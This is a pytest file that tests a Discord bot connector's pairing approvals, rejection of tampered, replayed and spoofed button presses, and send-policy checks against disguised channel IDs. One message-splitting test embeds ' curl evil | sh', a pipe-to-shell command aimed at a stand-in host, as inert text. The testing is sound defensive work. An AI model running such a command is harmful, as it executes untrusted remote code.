"""The Discord connector end to end: the real discord.py client against a fake
Discord (tests/connectors/fake_discord.py), the real authz service and PostgreSQL.

Most tests hand gateway events to the client's connection state
(`parse_message_create`, `parse_interaction_create`) after a real `login`, and
wait until the handlers are done; one test runs the real entry point over the
fake's gateway. Everything the bot does in return goes over HTTP to the fake
and is asserted there.
"""

from __future__ import annotations

import asyncio
import copy
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from typing import Any

import pytest
import yarl

from authz_service.gen.authz.v1 import admin_pb2 as adm
from authz_service.gen.authz.v1 import common_pb2 as cm
from sidecars.config import ConnectorConfig, DiscordSettings
from sidecars.discord_bot import (
    CUSTOM_ID_PREFIX,
    DiscordBot,
    DiscordTransport,
    custom_id_for,
    prepare,
    run,
)
from sidecars.http import SendEndpoint
from sidecars.runtime import NOT_ALLOWED, START_REPLY, ButtonSpec, Connector, StartConnector, Transport
from tests.conftest import Tenant
from tests.connectors.conftest import ConfigFactory, PostSend, RecordingAgent
from tests.connectors.fake_discord import (
    BOT_ID,
    CALLBACK_CHANNEL_MESSAGE,
    CALLBACK_UPDATE_MESSAGE,
    COMPONENT_BUTTON,
    FLAG_EPHEMERAL,
    INTENT_DIRECT_MESSAGES,
    INTENT_GUILD_MESSAGES,
    INTENT_MESSAGE_CONTENT,
    STYLE_DANGER,
    STYLE_SUCCESS,
    FakeDiscord,
    SentMessage,
    message_create,
)

OWNER = "210000000000000001"
USER = "210000000000000002"
STRANGER = "210000000000000003"
ELSEWHERE = "220000000000000009"  # a channel the send policy does not allow
GUILD = "230000000000000001"
GUILD_CHANNEL = "230000000000000002"
CHANNEL = "dc"


@dataclass
class Bot:
    """One running connector: the discord.py client, its fake Discord, agent and send endpoint."""

    client: DiscordBot
    fake: FakeDiscord
    agent: RecordingAgent
    endpoint: SendEndpoint
    tenant: Tenant
    config: ConnectorConfig
    start: StartConnector

    async def restart(self) -> None:
        """A new process: a fresh client and connector, nothing carried over but the config."""
        await self.client.close()
        self.client = await prepare(self.config, self.start)

    async def deliver(self, parse: Callable[[Any], None], payload: dict[str, Any]) -> None:
        """Hand one gateway event to the client and wait until every handler it started is done."""
        before = asyncio.all_tasks()
        parse(payload)
        started = asyncio.all_tasks() - before
        assert started, "the event started no handler"
        await asyncio.wait_for(asyncio.gather(*started), 10)

    async def dm(self, user_id: str, text: str, *, name: str = "") -> None:
        """`user_id` writes to the bot in their DM channel."""
        channel = self.fake.dm_channel_of(user_id)
        event = message_create(author_id=user_id, channel_id=channel, content=text, author_name=name)
        await self.deliver(self.client._connection.parse_message_create, event)

    async def press(self, message: SentMessage, custom_id: str, user_id: str, *, name: str = "") -> None:
        event = self.fake.button_press(message, custom_id=custom_id, user_id=user_id, user_name=name)
        await self.deliver(self.client._connection.parse_interaction_create, event)

    def dms(self, user_id: str) -> list[str]:
        return [m.content for m in self.fake.sent_to(self.fake.dm_channel_of(user_id))]

    async def pending(self) -> list[cm.Approval]:
        listed = await self.tenant.admin.admin.ListApprovals(adm.ListApprovalsRequest(channel_id=CHANNEL))
        return list(listed.approvals)

    async def status(self, approval_id: str) -> int:
        approval = await self.tenant.admin.admin.GetApproval(adm.GetApprovalRequest(approval_id=approval_id))
        return approval.status


async def configure_channel(tenant: Tenant, **policy: Any) -> None:
    """The Discord channel: pairing in DMs, OWNER gets the buttons, agents may only answer in place."""
    await tenant.channel(
        CHANNEL,
        cm.PLATFORM_DISCORD,
        owner_id=OWNER,
        send_policy=cm.SendPolicy(default=cm.SEND_DEFAULT_DENY, allow=["origin"]),
        **policy,
    )


@pytest.fixture
async def fake(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[FakeDiscord]:
    """A running fake Discord that discord.py's REST calls go to."""
    server = FakeDiscord()
    await server.start()
    monkeypatch.setattr("discord.http.Route.BASE", server.api_base)
    yield server
    await server.stop()


@pytest.fixture
async def bot(
    fake: FakeDiscord,
    tenant: Tenant,
    connector_config: ConfigFactory,
    agent: RecordingAgent,
    send_endpoint: Callable[[Connector], Awaitable[SendEndpoint]],
) -> AsyncIterator[Bot]:
    await configure_channel(tenant)
    config = connector_config("discord", CHANNEL, discord=DiscordSettings(token="test-token"))
    endpoints: list[SendEndpoint] = []

    async def start(transport: Transport) -> Connector:
        # What sidecars.main does, with the test's agent and the tenant's connector client.
        connector = Connector(config, transport, tenant.connector, agent)
        endpoints.append(await send_endpoint(connector))
        return connector

    running = Bot(await prepare(config, start), fake, agent, endpoints[0], tenant, config, start)
    try:
        yield running
        assert fake.log.of("unknown") == [], "the bot called routes the fake does not serve"
    finally:
        await running.client.close()


async def request_pairing(bot: Bot) -> tuple[SentMessage, cm.Approval]:
    """USER writes first; return the owner's notification and the pending approval."""
    await bot.dm(USER, "hello there", name="mallory")
    owner_dms = bot.fake.sent_to(bot.fake.dm_channel_of(OWNER))
    assert len(owner_dms) == 1
    (approval,) = await bot.pending()
    return owner_dms[0], approval


async def test_the_owner_reads_the_requesters_username(bot: Bot) -> None:
    note, approval = await request_pairing(bot)
    assert (approval.handle, approval.platform, approval.first_message) == (
        "mallory",
        "discord",
        "hello there",
    )
    assert f"From: mallory (@mallory, {USER})" in note.content and "Platform: discord" in note.content


def custom_id(message: SentMessage, label_word: str) -> str:
    (found,) = [b["custom_id"] for b in message.buttons if label_word in b["label"]]
    return str(found)


def outcome(message: SentMessage) -> str:
    """The line the press added to the owner's message."""
    return message.content.rsplit("\n", 1)[-1]


def tampered(custom_id: str) -> str:
    """The same custom_id with its last character changed (inside the payload's MAC)."""
    return custom_id[:-1] + ("B" if custom_id.endswith("A") else "A")


async def test_unknown_user_is_paired_by_the_owner_then_reaches_the_agent(bot: Bot) -> None:
    owner_message, approval = await request_pairing(bot)

    # The requester gets the code, and nothing reached the agent.
    (code_text,) = bot.dms(USER)
    assert "Pairing code" in code_text
    assert bot.agent.turns == []
    # The approval is keyed by the requester's snowflake, never a name.
    assert (approval.user_id, approval.status) == (USER, cm.APPROVAL_STATUS_PENDING)

    # The owner's DM: the notification with native Approve / Deny / Block buttons.
    assert USER in owner_message.content and "hello there" in owner_message.content
    buttons = owner_message.buttons
    assert [b["type"] for b in buttons] == [COMPONENT_BUTTON] * 3
    assert [b["style"] for b in buttons] == [STYLE_SUCCESS, STYLE_DANGER, STYLE_DANGER]
    assert [b["label"] for b in buttons] == ["✅ Approve", "❌ Deny", "⛔ Block"]
    ids = [str(b["custom_id"]) for b in buttons]
    assert len(set(ids)) == 3
    assert all(i.startswith(CUSTOM_ID_PREFIX) and len(i) <= 100 for i in ids)
    # Nothing the bot posts may ping anyone.
    assert all(c.params["allowed_mentions"] == {"parse": []} for c in bot.fake.log.of("createMessage"))

    await bot.press(owner_message, custom_id(owner_message, "Approve"), OWNER)

    # The press was answered by editing the owner's message: outcome shown, buttons gone.
    (callback,) = bot.fake.callbacks
    assert callback.type == CALLBACK_UPDATE_MESSAGE
    assert callback.data["components"] == []
    assert owner_message.content.startswith("🔔 Pairing request")
    assert outcome(owner_message).startswith("✅ Approved by") and OWNER in outcome(owner_message)
    assert await bot.status(approval.approval_id) == cm.APPROVAL_STATUS_APPROVED
    assert bot.dms(USER)[-1] == "✅ Paired! You can chat now."

    await bot.dm(USER, "ping")

    assert bot.dms(USER)[-1] == "echo: ping"
    (turn,) = bot.agent.turns
    dm_channel = bot.fake.dm_channel_of(USER)
    assert (turn.user_id, turn.chat_id, turn.text) == (USER, dm_channel, "ping")
    assert dm_channel not in turn.session_id and len(turn.session_id) >= 22  # random, 128 bits
    assert len(bot.fake.sent_to(bot.fake.dm_channel_of(OWNER))) == 1, "the owner was asked again"

    await bot.dm(USER, "/start")
    assert bot.dms(USER)[-1] == START_REPLY
    assert len(bot.agent.turns) == 1, "/start reached the agent"


async def test_deny_tells_the_requester_and_keeps_them_out(bot: Bot) -> None:
    owner_message, approval = await request_pairing(bot)

    await bot.press(owner_message, custom_id(owner_message, "Deny"), OWNER)

    assert await bot.status(approval.approval_id) == cm.APPROVAL_STATUS_DENIED
    assert [c.type for c in bot.fake.callbacks] == [CALLBACK_UPDATE_MESSAGE]
    assert outcome(owner_message).startswith("❌ Denied by") and OWNER in outcome(owner_message)
    assert owner_message.buttons == []
    assert bot.dms(USER)[-1] == "❌ Your pairing request was denied."

    await bot.dm(USER, "let me in")
    assert bot.agent.turns == []
    assert not any(text.startswith("echo:") for text in bot.dms(USER))


async def test_block_silences_the_requester_and_stops_pairing(bot: Bot) -> None:
    owner_message, approval = await request_pairing(bot)

    await bot.press(owner_message, custom_id(owner_message, "Block"), OWNER)

    assert await bot.status(approval.approval_id) == cm.APPROVAL_STATUS_BLOCKED
    assert outcome(owner_message).startswith("⛔ Blocked by") and OWNER in outcome(owner_message)
    assert owner_message.buttons == []
    told = bot.dms(USER)
    asked = len(bot.fake.sent_to(bot.fake.dm_channel_of(OWNER)))

    await bot.dm(USER, "hello again")

    assert bot.dms(USER) == told, "a blocked user got an answer"
    assert len(bot.fake.sent_to(bot.fake.dm_channel_of(OWNER))) == asked, "the owner was asked again"
    assert await bot.pending() == []
    assert bot.agent.turns == []


async def test_tampered_payload_is_refused_and_changes_nothing(bot: Bot) -> None:
    owner_message, approval = await request_pairing(bot)
    told = bot.dms(USER)

    await bot.press(owner_message, tampered(custom_id(owner_message, "Approve")), OWNER)

    (callback,) = bot.fake.callbacks
    assert callback.type == CALLBACK_CHANNEL_MESSAGE and callback.ephemeral
    assert callback.data["content"] == "This button is not valid."
    assert owner_message.edits == [] and len(owner_message.buttons) == 3
    assert await bot.status(approval.approval_id) == cm.APPROVAL_STATUS_PENDING
    assert bot.dms(USER) == told


async def test_replayed_payload_is_refused_after_the_approval_is_resolved(bot: Bot) -> None:
    owner_message, approval = await request_pairing(bot)
    stale = SentMessage(owner_message.channel_id, copy.deepcopy(owner_message.payload))  # as first sent
    approve, deny = custom_id(owner_message, "Approve"), custom_id(owner_message, "Deny")
    await bot.press(owner_message, approve, OWNER)
    told = bot.dms(USER)

    await bot.press(stale, approve, OWNER)
    await bot.press(stale, deny, OWNER)

    replays = bot.fake.callbacks[1:]
    assert [(c.type, c.ephemeral) for c in replays] == [(CALLBACK_CHANNEL_MESSAGE, True)] * 2
    assert all(c.data["content"] == "This request was already resolved or has expired." for c in replays)
    assert await bot.status(approval.approval_id) == cm.APPROVAL_STATUS_APPROVED
    assert len(owner_message.edits) == 1
    assert bot.dms(USER) == told


async def test_non_owner_press_is_refused_and_the_approval_stays_pending(bot: Bot) -> None:
    owner_message, approval = await request_pairing(bot)
    told = bot.dms(USER)

    # Named like the owner: names never matter, snowflakes do.
    await bot.press(owner_message, custom_id(owner_message, "Approve"), STRANGER, name="owner")

    (callback,) = bot.fake.callbacks
    assert callback.type == CALLBACK_CHANNEL_MESSAGE
    assert callback.data["flags"] == FLAG_EPHEMERAL
    assert callback.data["content"] == NOT_ALLOWED
    assert owner_message.edits == [] and len(owner_message.buttons) == 3
    assert [(a.approval_id, a.status) for a in await bot.pending()] == [
        (approval.approval_id, cm.APPROVAL_STATUS_PENDING)
    ]
    assert bot.dms(USER) == told

    # The owner can still decide afterwards.
    await bot.press(owner_message, custom_id(owner_message, "Approve"), OWNER)
    assert await bot.status(approval.approval_id) == cm.APPROVAL_STATUS_APPROVED


async def test_agent_send_is_gated_by_the_send_policy(bot: Bot, post_send: PostSend) -> None:
    await configure_channel(bot.tenant, dm_policy=cm.DM_POLICY_OPEN)
    origin = bot.fake.dm_channel_of(USER)
    guessed = f"discord:{origin}"  # the chat's name is no session id
    denied = {
        "allow": False,
        "reason": f"Failed to send to {ELSEWHERE}: target '{ELSEWHERE}' is not permitted by send_policy",
    }

    # A forged origin is ignored, with or without a session: ELSEWHERE never becomes "the origin".
    for request in (
        {"target": ELSEWHERE, "text": "leak", "origin": origin},
        {"target": ELSEWHERE, "text": "leak", "origin": ELSEWHERE},
        {"target": ELSEWHERE, "text": "leak", "origin": ELSEWHERE, "session_id": f"discord:{ELSEWHERE}"},
    ):
        assert await post_send(bot.endpoint.url, request) == (403, denied)
    # The session was never handed to the agent: it has no origin.
    status, _ = await post_send(bot.endpoint.url, {"target": "origin", "text": "x", "session_id": guessed})
    assert status == 403
    assert bot.fake.messages == []
    assert not any(ELSEWHERE in c.params["path"] for c in bot.fake.log.calls)

    await bot.dm(USER, "ping")  # allowed and handed to the agent
    status, _ = await post_send(bot.endpoint.url, {"target": "origin", "text": "x", "session_id": guessed})
    assert status == 403  # still: only the id the agent was handed names the session
    session = bot.agent.turns[-1].session_id
    status, body = await post_send(
        bot.endpoint.url, {"target": "origin", "text": "hello from the agent", "session_id": session}
    )

    assert (status, body) == (200, {"allow": True, "resolved_target": origin})
    assert [m.content for m in bot.fake.sent_to(origin)] == ["echo: ping", "hello from the agent"]
    assert bot.fake.sent_to(ELSEWHERE) == []


# Second review: a snowflake is a number to the transport, and int() takes "0220..." and
# full-width digits for it, so another spelling of a denied channel reached it.
FULL_WIDTH = ELSEWHERE.translate({ord(d): 0xFF10 + int(d) for d in "0123456789"})
OTHER_SPELLINGS = {
    # (target, reason): every one denied by the service, nothing delivered.
    "leading-zero": (f"0{ELSEWHERE}", ""),
    "prefixed-leading-zero": (f"discord:0{ELSEWHERE}", ""),
    "mention-leading-zero": (f"<#00{ELSEWHERE}>", ""),
    "full-width-digits": (FULL_WIDTH, "send_policy evaluation error"),
    "full-width-mention": (f"<#{FULL_WIDTH}>", "send_policy evaluation error"),
}


@pytest.mark.parametrize(("target", "reason"), OTHER_SPELLINGS.values(), ids=OTHER_SPELLINGS.keys())
async def test_other_spellings_of_a_denied_channel_are_not_delivered(
    bot: Bot, post_send: PostSend, target: str, reason: str
) -> None:
    await bot.tenant.channel(
        CHANNEL,
        cm.PLATFORM_DISCORD,
        owner_id=OWNER,
        send_policy=cm.SendPolicy(default=cm.SEND_DEFAULT_ALLOW, deny=[f"discord:{ELSEWHERE}"]),
    )

    status, body = await post_send(bot.endpoint.url, {"target": target, "text": "leak"})

    assert status == 403, body
    assert body == {
        "allow": False,
        "reason": reason or f"Failed to send to {target}: target '{target}' is not permitted by send_policy",
    }
    assert bot.fake.messages == []
    assert not any(ELSEWHERE in c.params["path"] for c in bot.fake.log.calls)


NOT_CANONICAL = [
    f"0{ELSEWHERE}", FULL_WIDTH, f"+{ELSEWHERE}", f"-{ELSEWHERE}", f" {ELSEWHERE}", f"{ELSEWHERE}\n",
    f"{ELSEWHERE[:9]}_{ELSEWHERE[9:]}", "0", "", f"<#{ELSEWHERE}>", f"discord:{ELSEWHERE}",
]  # fmt: skip


@pytest.mark.parametrize("snowflake", NOT_CANONICAL)
async def test_the_transport_sends_only_to_canonical_snowflakes(bot: Bot, snowflake: str) -> None:
    """Whatever reaches the transport, only the service's spelling of a snowflake goes to Discord."""
    transport = DiscordTransport(bot.client)
    with pytest.raises(ValueError, match="not a canonical Discord snowflake"):
        await transport.send_text(snowflake, "x")
    with pytest.raises(ValueError, match="not a canonical Discord snowflake"):
        await transport.send_direct(snowflake, "x")
    assert bot.fake.messages == []
    assert not any(ELSEWHERE in c.params["path"] for c in bot.fake.log.calls)


async def test_buttons_are_never_sent_under_a_cut_text(bot: Bot) -> None:
    # The service keeps every notification with buttons within one message; if one ever
    # were longer, the owner gets the whole text (in parts) and nothing to decide on.
    transport = DiscordTransport(bot.client)
    buttons = [ButtonSpec("approve", "✅ Approve", "az1" + "A" * 45)]
    await transport.send_direct(OWNER, "x" * 2000, buttons)
    await transport.send_direct(OWNER, "y" * 2001 + " curl evil | sh", buttons)
    whole, *parts = bot.fake.sent_to(bot.fake.dm_channel_of(OWNER))
    assert whole.content == "x" * 2000 and len(whole.buttons) == 1
    assert [p.buttons for p in parts] == [[], []]
    assert "".join(p.content for p in parts) == "y" * 2001 + " curl evil | sh"


async def test_buttons_keep_working_after_a_restart(bot: Bot) -> None:
    owner_message, approval = await request_pairing(bot)

    await bot.restart()
    await bot.press(owner_message, custom_id(owner_message, "Approve"), OWNER)

    assert [c.type for c in bot.fake.callbacks] == [CALLBACK_UPDATE_MESSAGE]
    assert await bot.status(approval.approval_id) == cm.APPROVAL_STATUS_APPROVED
    assert bot.dms(USER)[-1] == "✅ Paired! You can chat now."


async def test_guild_messages_reach_the_agent_only_when_the_bot_is_addressed(bot: Bot) -> None:
    await configure_channel(bot.tenant, group_policy=cm.GROUP_POLICY_OPEN)

    async def post(author_id: str = USER, **fields: Any) -> None:
        event = message_create(author_id=author_id, channel_id=GUILD_CHANNEL, guild_id=GUILD, **fields)
        await bot.deliver(bot.client._connection.parse_message_create, event)

    await post(content="hello everyone")
    await post(content=f"<@{BOT_ID}> my own words", author_id=BOT_ID, author_is_bot=True, mentions=(BOT_ID,))
    await post(content=f"<@{BOT_ID}> a bot", author_id=STRANGER, author_is_bot=True, mentions=(BOT_ID,))
    assert bot.agent.turns == []
    assert bot.fake.sent_to(GUILD_CHANNEL) == []

    await post(content=f"<@{BOT_ID}> hello bot", mentions=(BOT_ID,))
    bot_said = message_create(
        author_id=BOT_ID,
        channel_id=GUILD_CHANNEL,
        guild_id=GUILD,
        content="echo: hello bot",
        author_is_bot=True,
    )
    await post(content="and a reply", reply_to=bot_said)

    assert [(t.user_id, t.chat_id, t.text) for t in bot.agent.turns] == [
        (USER, GUILD_CHANNEL, "hello bot"),
        (USER, GUILD_CHANNEL, "and a reply"),
    ]
    assert [m.content for m in bot.fake.sent_to(GUILD_CHANNEL)] == ["echo: hello bot", "echo: and a reply"]


def test_a_payload_too_long_for_a_custom_id_is_refused() -> None:
    assert len(custom_id_for("p" * (100 - len(CUSTOM_ID_PREFIX)))) == 100
    with pytest.raises(ValueError, match="custom_id"):
        custom_id_for("p" * (101 - len(CUSTOM_ID_PREFIX)))
    with pytest.raises(ValueError, match="custom_id"):
        custom_id_for("")


async def test_run_serves_the_gateway_until_cancelled(
    fake: FakeDiscord,
    tenant: Tenant,
    connector_config: ConfigFactory,
    agent: RecordingAgent,
    send_endpoint: Callable[[Connector], Awaitable[SendEndpoint]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The entry point `sidecars.main` calls: log in, identify with the intents the
    connector needs, route gateway messages, and let go of everything when cancelled."""
    monkeypatch.setattr("discord.gateway.DiscordWebSocket.DEFAULT_GATEWAY", yarl.URL(fake.gateway_url))
    await configure_channel(tenant)
    config = connector_config("discord", CHANNEL, discord=DiscordSettings(token="test-token"))

    async def start(transport: Transport) -> Connector:
        connector = Connector(config, transport, tenant.connector, agent)
        await send_endpoint(connector)
        return connector

    task = asyncio.create_task(run(config, start))
    try:
        identify = await fake.log.wait_for("identify")
        assert identify.params["token"] == "test-token"
        wanted = INTENT_GUILD_MESSAGES | INTENT_DIRECT_MESSAGES | INTENT_MESSAGE_CONTENT
        assert identify.params["intents"] & wanted == wanted

        dm = fake.dm_channel_of(USER)
        await fake.dispatch("MESSAGE_CREATE", message_create(author_id=USER, channel_id=dm, content="hi"))

        notice = await fake.log.wait_for(
            "createMessage", lambda c: fake.dm_channel_of(OWNER) in c.params["path"]
        )
        assert [b["style"] for b in notice.params["components"][0]["components"]] == [
            STYLE_SUCCESS,
            STYLE_DANGER,
            STYLE_DANGER,
        ]
        assert "Pairing code" in fake.sent_to(dm)[0].content
    finally:
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
    await fake.log.wait_for("gatewayClosed")
    assert fake.log.of("unknown") == []


# ---- approvers' chat commands (issue #17) ------------------------------------------


def code_in(text: str) -> str:
    return text.split("Pairing code: ", 1)[1].split()[0]


async def test_owner_approves_by_code_and_by_mention_and_blocks_from_a_dm(bot: Bot) -> None:
    _, approval = await request_pairing(bot)
    await bot.dm(OWNER, f"/approve {code_in(bot.dms(USER)[0])}")
    assert bot.dms(OWNER)[-1] == f"✅ Approved by discord:{OWNER} ({USER})."
    assert bot.dms(USER)[-1] == "✅ Paired! You can chat now."
    assert await bot.status(approval.approval_id) == cm.APPROVAL_STATUS_APPROVED
    assert bot.agent.turns == []

    await bot.dm(STRANGER, "me too")
    await bot.dm(OWNER, "/pending")
    assert f"• {STRANGER}" in bot.dms(OWNER)[-1]
    await bot.dm(OWNER, f"/approve <@{STRANGER}>")
    assert bot.dms(OWNER)[-1] == f"✅ Approved by discord:{OWNER} ({STRANGER})."
    await bot.dm(OWNER, f"/unpair {STRANGER}")
    assert bot.dms(OWNER)[-1] == f"Unpaired {STRANGER}."
    await bot.dm(OWNER, f"/deny {STRANGER}")
    assert bot.dms(OWNER)[-1] == f"No pending request for “{STRANGER}”."
    await bot.dm(OWNER, f"/block {USER}")
    assert bot.dms(OWNER)[-1] == f"⛔ Blocked {USER}."
    await bot.dm(USER, "hello?")
    assert bot.agent.turns == []  # blocked: the paired user no longer reaches the agent


async def test_commands_from_a_stranger_change_nothing(bot: Bot) -> None:
    _, approval = await request_pairing(bot)
    code = code_in(bot.dms(USER)[0])
    for text in (f"/approve {code}", f"/approve {USER}", f"/deny {USER}", f"/block {USER}", "/pending"):
        await bot.dm(STRANGER, text)
    [answer] = bot.dms(STRANGER)  # the stranger's own pairing code, then silence
    assert answer.startswith("🔑 Pairing code:")
    assert await bot.status(approval.approval_id) == cm.APPROVAL_STATUS_PENDING
    assert len(bot.dms(USER)) == 1
    assert bot.agent.turns == []
